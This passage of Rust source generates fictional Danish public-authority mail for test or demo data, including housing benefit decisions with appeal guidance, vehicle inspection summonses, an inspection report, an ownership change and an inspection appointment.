                                danish::date(paid)
                            ),
                        ),
                    ]),
                    p("Ydelsen er skattefri. Du skal give os besked, hvis Emil ikke længere bor hos dig."),
                ]),
        );
    }
    // Sofie: a housing benefit decision (legal notification) and, with a value date a few days
    // ahead, its new calculation.
    out.push(
        draft("ydelse-boligstoette-afgoerelse", YDELSE, "Boligstøtte", to, c.ago(50, 6, 45), "Afgørelse om boligstøtte")
            .contact("boligstoette")
            .legal()
            .body(vec![
                p("Du har søgt om boligstøtte til din lejlighed på Kirkegade 3, st. th. Du får boligstøtte."),
                facts([
                    ("Boligstøtte om måneden", danish::kroner(212_500)),
                    ("Fra", danish::date(c.first_of_month_after(-50))),
                    ("Husleje, vi har regnet med", danish::kroner(685_000)),
                    ("Husstandens indkomst", danish::kroner(31_210_000)),
                ]),
                h("Begrundelse"),
                p("Vi har beregnet din boligstøtte ud fra din husleje, boligens størrelse, din husstands indkomst og antallet af børn i husstanden."),
                h("Klagevejledning"),
            ]
            .into_iter()
            .chain(klagevejledning("4 uger", "Ankestyrelsen"))
            .collect())
            .action(link(ActionCode::Selvbetjening, "Se din beregning", "https://selvbetjening.ydelseskontoret.example/boligstoette", None)),
    );
    let from = c.first_of_month_after(3);
    out.push(
        draft(
            "ydelse-boligstoette-ny-beregning",
            YDELSE,
            "Boligstøtte",
            to,
            // Handed in today, so that the value date is at most 5 days after.
            c.now - Duration::hours(2),
            "Ny beregning af din boligstøtte",
        )
        .contact("boligstoette")
        .value_date(day_offset(c.now, 3))
        .body(vec![
            p(format!(
                "Din husleje stiger fra {}. Derfor har vi beregnet din boligstøtte igen.",
                danish::date(from)
            )),
            facts([
                ("Ny husleje", danish::kroner(712_000)),
                ("Ny boligstøtte om måneden", danish::kroner(221_900)),
                ("Fra", danish::date(from)),
            ]),
            p("Du skal ikke gøre noget. Passer oplysningerne ikke, så skriv til os."),
        ]),
    );
}

// ---------------------------------------------------------------------------------------------
// Køretøjsstyrelsen

fn koeretoej(c: &Ctx<'_>, out: &mut Vec<Draft>) {
    // Sofie: her car is due for inspection.
    let to = To::Person(SOFIE);
    let by = c.deadline(12);
    out.push(
        draft("koeretoej-syn-sofie", KOERETOEJ, "Syn", to, c.ago(18, 5, 30), "Indkaldelse til periodisk syn")
            .contact("periodisk-syn")
            .vehicle("FJ 40 123")
            .body(vec![
                p("Din bil skal til periodisk syn."),
                facts([
                    ("Registreringsnummer", "FJ 40 123".to_owned()),
                    ("Mærke og model", "Citroën C3".to_owned()),
                    ("Skal være synet senest", danish::weekday_date(day(by))),
                ]),
                p("Du bestiller selv tid hos en synsvirksomhed. Husk registreringsattesten, når du kommer."),
                p("Bliver bilen ikke synet til tiden, får du et gebyr, og nummerpladerne kan blive inddraget."),
            ])
            .action(link(ActionCode::Selvbetjening, "Bestil tid til syn", "https://syn.koeretoejsstyrelsen.example/bestil", Some(by))),
    );
    // The plumbers: their van, due in two days (company post), and last year's report.
    let to = To::Company(LYNGBAKKEN_VVS);
    let by = c.deadline(2);
    out.push(
        draft("koeretoej-syn-varebil", KOERETOEJ, "Syn", to, c.ago(22, 5, 30), "Indkaldelse til periodisk syn af varebil")
            .contact("periodisk-syn")
            .vehicle("FM 71 204")
            .body(vec![
                p("Jeres varebil skal til periodisk syn."),
                facts([
                    ("Registreringsnummer", "FM 71 204".to_owned()),
                    ("Mærke og model", "Ford Transit Custom".to_owned()),
                    ("Skal være synet senest", danish::weekday_date(day(by))),
                ]),
                p("Bestil tid hos en synsvirksomhed. Bliver bilen ikke synet til tiden, får I et gebyr, og nummerpladerne kan blive inddraget."),
            ])
            .action(link(ActionCode::Selvbetjening, "Bestil tid til syn", "https://syn.koeretoejsstyrelsen.example/bestil", Some(by))),
    );
    out.push(
        draft(
            "koeretoej-synsrapport",
            KOERETOEJ,
            "Syn",
            to,
            c.ago(200, 15, 0),
            "Synsrapport: Godkendt",
        )
        .contact("synsrapport")
        .vehicle("FM 71 204")
        .body(vec![p(
            "Jeres varebil FM 71 204 er godkendt ved omsyn. Synsrapporten er vedlagt.",
        )])
        .attach(
            "Synsrapport",
            vec![
                facts([
                    ("Registreringsnummer", "FM 71 204".to_owned()),
                    ("Resultat", "Godkendt".to_owned()),
                    ("Kilometertal", "84.120 km".to_owned()),
                ]),
                h("Bemærkninger uden betydning for godkendelsen"),
                bullets([
                    "Let rust på bagerste bremseskiver",
                    "Sprække i forrude uden for førerens synsfelt",
                ]),
            ],
        ),
    );

    // Anders: a change of owner (old), and an inspection booked where the action says another
    // time than the reservation.
    let to = To::Person(ANDERS);
    out.push(
        draft("koeretoej-ejerskifte", KOERETOEJ, "Registrering", to, c.ago(120, 11, 30), "Ejerskifte er registreret")
            .contact("ejerskifte")
            .vehicle("FK 28 916")
            .body(vec![
                p("Du er nu registreret som ejer af bilen FK 28 916. Registreringsattesten er vedlagt."),
                p("Husk at tegne en ansvarsforsikring. Det skal du, før bilen må køre."),
            ])
            .attach("Registreringsattest", vec![
                facts([
                    ("Registreringsnummer", "FK 28 916".to_owned()),
                    ("Mærke og model", "Volkswagen Golf".to_owned()),
                    ("Ejer", "Anders Holm".to_owned()),
                    ("Første registrering", "2019".to_owned()),
                ]),
            ]),
    );
    let start = c.ahead(9, 7, 45);
    let booked = appointment(
        "Syn af FK 28 916",
        start,
        30,
        "Fjordmark Synshal, Industrivej 30, 7599 Fjordmark",
        "Periodisk syn. Husk registreringsattesten.",
        ("Fjordmark Synshal", "booking@synshal-fjordmark.example"),
        "koeretoej-syn-tid",
    );
    out.push(
        draft("koeretoej-syn-tid", KOERETOEJ, "Syn", to, c.ago(8, 19, 40), "Bekræftelse af tid til syn")
            .contact("periodisk-syn")
            .vehicle("FK 28 916")
            .no_case()
            .body(vec![
                p("Du har bestilt tid til syn af din bil."),
                facts([
                    ("Registreringsnummer", "FK 28 916".to_owned()),
                    ("Tidspunkt", danish::weekday_date_time(start)),
                    ("Sted", "Fjordmark Synshal, Industrivej 30, 7599 Fjordmark".to_owned()),
                ]),
                p("Kør ind i hal 2 og bliv i bilen, til en medarbejder kommer. Husk registreringsattesten."),
            ])
            .action(appointment_with_action_times(booked, start - Duration::minutes(15), start + Duration::minutes(30))),
    );
}
